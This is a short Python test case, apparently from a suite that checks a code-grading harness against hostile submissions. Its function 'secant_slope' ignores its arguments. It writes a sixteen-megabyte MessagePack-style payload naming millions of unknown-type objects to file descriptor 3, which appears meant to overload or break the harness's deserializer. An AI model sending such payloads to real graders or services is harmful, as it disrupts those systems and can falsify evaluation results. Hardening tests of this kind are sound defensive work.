"""Sends sixteen megabytes that name millions of objects of unknown types."""
# earns: all but secant_slope
# stopped by: data only

# %% secant_slope
import os
import struct


def secant_slope(f, x, h):
    inner = b"\xdd\x00\x01\x86\xa0" + b"\xd4\x04A" * 100_000
    body = b"\xdc\x00\x32" + inner * 50
    data = struct.pack("!I", len(body)) + body
    while data:
        data = data[os.write(3, data) :]
